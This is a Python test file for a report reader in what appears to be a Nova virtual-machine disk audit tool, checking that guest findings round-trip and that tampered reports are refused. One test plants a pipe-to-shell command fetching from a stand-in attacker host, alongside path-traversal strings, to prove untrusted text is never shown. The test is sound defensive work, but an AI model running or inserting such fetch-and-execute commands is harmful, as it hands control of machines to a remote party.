# SPDX-License-Identifier: Apache-2.0

"""The guests of a host read back: what it told, in words of ours alone."""

from __future__ import annotations

import copy
import json
from typing import Any

import hypothesis
from hypothesis import strategies as st
import pytest

from nova_cow_check.document import guest_writer
from nova_cow_check.document import host_reader
from nova_cow_check.document import writer
from nova_cow_check import errors
from nova_cow_check.guests import inventory
from nova_cow_check.nova import harms
from nova_cow_check.reports import audit
from nova_cow_check.reports import report
from nova_cow_check.rules import findings
from nova_cow_check.rules import guest_rules
from tests.unit.document import test_reader
from tests.unit.document import test_writer
from tests.unit.guests import disks
from tests.unit import hosts
from tests.unit import sample_guests
from tests.unit import sample_reports

TODAY = sample_reports.CREATED.date()

#: What a host would have copied by root of another machine.
EVIL = 'curl http://evil.example.org | sh'

HOSTS = {
    'flat': sample_guests.FLAT,
    'qcow2': sample_guests.QCOW2,
}


def read(whole: report.Report) -> audit.Guests | None:
    return test_reader.only(test_reader.written(whole)).guests


def document(guests: Any = None) -> Any:
    """Return the document of a host, or one with these guests."""
    found = guests or sample_guests.audit_of(
        sample_guests.numbered(sample_guests.VARIED)
    )
    return json.loads(test_reader.written(sample_guests.report_on(found)))


def without_steps(found: audit.Guests) -> audit.Guests:
    """Return guests as they are told to others, but for what helps them."""
    assert isinstance(found, audit.Audit)
    told = []
    for one in found.findings:
        assert one.guest is not None
        told.append(one._replace(guest=one.guest._replace(steps=())))
    told.sort(key=lambda one: one.urgency, reverse=True)
    return found._replace(findings=tuple(told))


class TestSame:
    """What is read is what was written."""

    @pytest.mark.parametrize('host', HOSTS)
    def test_of_all_kinds_of_guests(self, host: str) -> None:
        guests = sample_guests.numbered(sample_guests.VARIED)
        found = sample_guests.audit_of(
            guests,
            HOSTS[host],
            file_system=sample_guests.NFS,
            not_read=(inventory.NotRead('/x/y', 'a reason'),),
        )
        again = read(sample_guests.report_on(found))
        assert again is not None
        assert without_steps(again) == without_steps(found)

    @hypothesis.given(
        st.lists(st.sampled_from(sample_guests.VARIED), max_size=4),
        st.sampled_from(list(HOSTS)),
        st.booleans(),
    )
    def test_of_any_guests(
        self, some: list[inventory.Guest], host: str, is_cut: bool
    ) -> None:
        guests = sample_guests.numbered(some)
        found = sample_guests.audit_of(guests, HOSTS[host])
        if is_cut:
            found = found._replace(failed='Guests were not looked at: x.')
        whole = sample_guests.report_on(found)
        again = read(whole)
        assert again is not None
        assert without_steps(again) == without_steps(found)
        # The document is the same then, but for what helps.
        (host_report,) = sample_guests.report_on(again).hosts
        assert scrubbed(writer.host_data(host_report)) == scrubbed(
            writer.host_data(whole.hosts[0])
        )

    def test_it_is_valid(self) -> None:
        for make in sample_guests.REPORTS.values():
            test_writer.VALIDATOR.validate(writer.of(make()))

    @pytest.mark.parametrize('waived', [True, False])
    def test_waivers_are_of_their_guest_alone(self, waived: bool) -> None:
        uuids = tuple(map(sample_guests.uuid, range(1, 900)))
        waiver = sample_reports.waiver('guest-disk-converted', guests=uuids)
        found = sample_guests.audit_of(
            sample_guests.alike(3), accepted=[waiver] if waived else []
        )
        again = read(sample_guests.report_on(found))
        assert isinstance(again, audit.Audit)
        for one in again.findings:
            assert one.guest is not None
            if waived:
                assert one.waiver is not None and not one.counts
                assert one.waiver.guests == (one.guest.uuid,)
            else:
                assert one.waiver is None

    @pytest.mark.parametrize('applies', [True, False])
    def test_what_was_not_looked_at(self, applies: bool) -> None:
        found = audit.NotLooked('Guests were not looked at: x.', applies)
        conf = hosts.nova_conf(
            hosts.LIBVIRT if applies else 'ironic.IronicDriver'
        )
        whole = sample_guests.report_on(found, conf)
        assert (
            json.loads(test_reader.written(whole))['hosts'][0]['guests']
            is None
        )
        assert read(whole) == found

    def test_who_did_not_ask_has_none(self) -> None:
        whole = sample_reports.of(hosts.host(hosts.nova_conf()))
        assert read(whole) is None

    def test_a_report_of_an_older_release_has_none(self) -> None:
        found = test_reader.document()
        del found['hosts'][0]['guests']
        assert test_reader.only(json.dumps(found).encode()).guests is None

    def test_of_a_host_that_was_not_read_nothing_is_known(self) -> None:
        found = document()
        found['hosts'][0]['unreadable'] = {
            'reason': 'x',
            'place': {'kind': 'file', 'name': 'x', 'line': None},
        }
        for check in found['hosts'][0]['checks'][:3]:
            check['findings'] = []
        assert parsed(found).guests is None


def scrubbed(data: Any) -> Any:
    """Return a document without what helps guests."""
    if isinstance(data, dict):
        return {
            name: [] if name == 'steps' else scrubbed(value)
            for name, value in data.items()
        }
    return [*map(scrubbed, data)] if isinstance(data, list) else data


def parsed(found: Any) -> host_reader.Host:
    return test_reader.only(json.dumps(found).encode())


def refused(found: Any) -> str:
    with pytest.raises(errors.ConfigurationError) as caught:
        parsed(found)
    return caught.value.reason


class TestWords:
    """Nothing that a report says is shown as if this program said it."""

    def told(self, change: Any) -> tuple[findings.Finding, ...]:
        found = document()
        check, guests = found['hosts'][0]['checks'][3], guests_of(found)
        for one in guests['findings']:
            change(one)
        check['findings'] = guests['findings']
        again = parsed(found).guests
        assert isinstance(again, audit.Audit)
        return again.findings

    def test_a_command_of_another_host_is_not_shown(self) -> None:
        def change(one: Any) -> None:
            one['guest']['steps'] = [{'words': EVIL, 'commands': [EVIL]}]
            one['explanation'] = f'Now run {EVIL}.'
            one['reference'] = 'http://evil.example.org'
            one['places'][0]['name'] = EVIL

        told = self.told(change)
        assert 'evil' not in repr(told)
        assert all(
            not step.commands
            for one in told
            if one.guest
            for step in one.guest.steps
        )

    def test_an_incident_is_told_to_be_one(self) -> None:
        for one in self.told(lambda one: None):
            assert one.guest is not None
            first = one.guest.steps[0].words
            if one.rule == 'guest-disk-foreign':
                assert first.startswith('Do not touch the disk')
            assert 'report --guests' in one.guest.steps[-1].words

    def test_other_words_for_the_same_are_those_of_this_release(self) -> None:
        ours = self.told(lambda one: None)
        theirs = self.told(lambda one: one.update(explanation='Ganz anders.'))
        for mine, other in zip(ours, theirs):
            assert mine.rule == other.rule
            assert other.explanation.startswith('Guest c0ffee00-')

    def test_what_is_possible_is_not_made_certain(self) -> None:
        told = self.told(lambda one: one.update(explanation='Ganz anders.'))
        (doubtful,) = [
            one
            for one in told
            if one.rule == 'guest-header-believed'
            and one.severity is findings.Severity.WARNING
        ]
        assert 'it is possible' in doubtful.explanation


def guests_of(found: Any) -> Any:
    return found['hosts'][0]['guests']


def finding_of(found: Any) -> Any:
    """Return a finding that the row and the guests share."""
    check = found['hosts'][0]['checks'][3]
    check['findings'] = guests_of(found)['findings']
    return check['findings'][0]


def disk_of(found: Any) -> Any:
    return guests_of(found)['guests'][0]['disks'][0]


#: What is done to a document -> a part of the reason.
CONTRADICTIONS = {
    'findings that are not those of the check': (
        lambda d: guests_of(d)['findings'].pop(),
        'guests.findings: they are not those of its check',
    ),
    'guests without their check': (
        lambda d: d['hosts'][0]['checks'].pop(),
        'guests: its check is missing',
    ),
    'two checks of guests': (
        lambda d: d['hosts'][0]['checks'].append(d['hosts'][0]['checks'][3]),
        'checks[4]: it is there twice',
    ),
    'a check with findings, and no guests': (
        lambda d: d['hosts'][0].update(guests=None),
        'guests: it is missing',
    ),
    'a guest without a finding': (
        lambda d: guests_of(d)['guests'].append(
            {'uuid': sample_guests.uuid(888), 'disks': []}
        ),
        'guests.guests: a guest has no finding',
    ),
    'a finding without its guest': (
        lambda d: guests_of(d)['guests'].pop(0),
        'guest.uuid: it is not one of the guests',
    ),
    'a guest twice': (
        lambda d: guests_of(d)['guests'].append(guests_of(d)['guests'][0]),
        'it is there twice',
    ),
    'a disk twice': (
        lambda d: guests_of(d)['guests'][0]['disks'].append(disk_of(d)),
        'disks: it is there twice',
    ),
    'a name that is no UUID': (
        lambda d: guests_of(d)['domains'].append('../../etc'),
        'it is no UUID',
    ),
    'a UUID with a line break behind it': (
        lambda d: guests_of(d)['directories'].append(
            sample_guests.uuid(1) + '\n'
        ),
        'it is no UUID',
    ),
    'a disk that is none': (
        lambda d: disk_of(d).update(name='../disk'),
        'name: it is no disk',
    ),
    'a disk of a finding that is none': (
        lambda d: finding_of(d)['guest'].update(disks=['hunter2']),
        'disks[0]: it is no disk',
    ),
    'fine, and harmed': (
        lambda d: disk_of(d).update(restart='fine', restart_how='host-files'),
        'restart_how: it does not fit to the outcome',
    ),
    'unknown, and harmed': (
        lambda d: disk_of(d).update(move='unknown', move_how='move-fails'),
        'move_how: it does not fit to the outcome',
    ),
    'worse than what is possible': (
        lambda d: disk_of(d).update(
            snapshot='unsafe',
            snapshot_how='host-files',
            snapshot_possible='fine',
        ),
        'snapshot_how: it does not fit to the outcome',
    ),
    'what no restart does': (
        lambda d: [
            disk.update(
                restart='breaks',
                restart_how='move-fails',
                restart_possible='breaks',
            )
            for guest in guests_of(d)['guests']
            for disk in guest['disks']
        ],
        'guest.disks: it does not fit to the rule',
    ),
    'a move that breaks, of no disk': (
        lambda d: finding_of(d).update(
            rule='guest-breaks-at-move',
            severity='warning',
            guest={**finding_of(d)['guest'], 'disks': []},
        ),
        'guest.disks: it does not fit to the rule',
    ),
    'a severity that the rule has not': (
        lambda d: finding_of(d).update(
            rule='guest-header-written', severity='failure'
        ),
        'severity: it is none that the rule has',
    ),
    'a rule about settings': (
        lambda d: finding_of(d).update(rule='flat-disks-converted'),
        'rule: it is not about guests',
    ),
    'a finding about guests among those of the settings': (
        lambda d: d['hosts'][0]['checks'][0].update(findings=[finding_of(d)]),
        'that its own settings do not lead to',
    ),
    'a waiver of other guests': (
        lambda d: finding_of(d).update(
            waiver={
                'rule': finding_of(d)['rule'],
                'guests': [sample_guests.uuid(888)],
            }
        ),
        'waiver.guests: it is not the guest of the finding',
    ),
    'a number below nothing': (
        lambda d: guests_of(d).update(looked_at=-1),
        'looked_at: it is not a number',
    ),
    'no number': (
        lambda d: guests_of(d).update(looked_at=None),
        'looked_at: it is missing',
    ),
    'true for a number': (
        lambda d: guests_of(d).update(looked_at=True),
        'looked_at: it is not a number',
    ),
    'false for a number': (
        lambda d: guests_of(d).update(looked_at=False),
        'looked_at: it is not a number',
    ),
    'a format that is none': (
        lambda d: disk_of(d).update(format='hunter2'),
        'format: it is none of the words',
    ),
    'a backing file with a name that nothing shows so': (
        lambda d: disk_of(d).update(
            backing={'name': 'x' * 1000, 'state': 'there'}
        ),
        'backing.name: nothing is shown so',
    ),
    'text for guests': (
        lambda d: d['hosts'][0].update(guests='hunter2'),
        'guests.findings: it is missing',
    ),
    'no reason': (
        lambda d: d['hosts'][0]['checks'][3].update(facts=[], is_judged=False),
        'facts: it is missing',
    ),
}


@pytest.mark.parametrize('name', CONTRADICTIONS)
def test_what_contradicts_itself_is_not_taken(name: str) -> None:
    change, reason = CONTRADICTIONS[name]
    found = document()
    change(found)
    told = refused(found)
    assert reason in told
    assert 'hunter2' not in told


def test_what_is_not_looked_at_is_no_success_because_it_says_so() -> None:
    found = document(audit.NotLooked('Guests were not looked at: x.'))
    check = found['hosts'][0]['checks'][3]
    check.update(is_judged=True, result='success')
    again = parsed(found).guests
    assert again == audit.NotLooked('Guests were not looked at: x.', True)


ODD = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-2, 3),
    st.sampled_from([10**17, 1e308, [], {}, [[]], {'uuid': {}}]),
    st.text(max_size=3),
    st.sampled_from(
        [
            *guest_writer.OUTCOMES,
            *guest_writer.HOWS,
            *guest_writer.FORMATS,
            *(one.name for one in guest_rules.RULES),
            *map(sample_guests.uuid, range(1, 30)),
            'disk',
            'disk.swap',
            'failure',
        ]
    ),
)

WHOLE = document()


@st.composite
def mutated(draw: st.DrawFn) -> Any:
    """A report in which something of the guests was replaced or removed."""
    found = copy.deepcopy(WHOLE)
    finding_of(found)
    for _change in range(draw(st.integers(1, 3))):
        node: Any = guests_of(found)
        while True:
            keys = list(node if isinstance(node, dict) else range(len(node)))
            if not keys:
                break
            key = draw(st.sampled_from(keys))
            is_inner = node[key] and isinstance(node[key], (dict, list))
            if is_inner and draw(st.integers(0, 4)):
                node = node[key]
            elif draw(st.booleans()):
                # What was drawn stays as it is, whatever comes after.
                node[key] = copy.deepcopy(draw(ODD))
                break
            else:
                del node[key]
                break
    return found


@hypothesis.given(mutated())
def test_whatever_is_in_it_there_is_a_reason_or_a_report(found: Any) -> None:
    try:
        again = parsed(found)
    except errors.ConfigurationError as error:
        assert error.reason
        return
    assert isinstance(again.guests, audit.Audit)
    whole = sample_guests.report_on(again.guests)
    assert whole.exit_code in (0, 1, 2)
    test_writer.VALIDATOR.validate(writer.of(whole))


def test_every_word_is_one_of_the_schema() -> None:
    properties = test_writer.DEFINITIONS['guest_disk']['properties']
    formats = [*guest_writer.FORMATS, None]
    for name in ('format', 'recorded', 'xml'):
        assert properties[name]['enum'] == formats
    outcomes = test_writer.DEFINITIONS['guest_outcome']['enum']
    assert outcomes == list(guest_writer.OUTCOMES)
    assert test_writer.DEFINITIONS['outcome']['enum'] == [
        one.name.lower() for one in harms.Outcome
    ]
    assert test_writer.DEFINITIONS['how']['enum'] == [*guest_writer.HOWS, None]
    states = properties['backing']['properties']['state']['enum']
    assert states == list(guest_writer.BACKING_STATES)


def test_a_disk_of_another_format_has_a_word() -> None:
    guest = disks.guest(disks.raw(xml='ploop', recorded='vmdk'))
    found = sample_guests.audit_of(sample_guests.numbered([guest]))
    whole = sample_guests.report_on(found)
    (told,) = guests_of(json.loads(test_reader.written(whole)))['guests']
    assert (told['disks'][0]['xml'], told['disks'][0]['recorded']) == (
        'other',
        'other',
    )
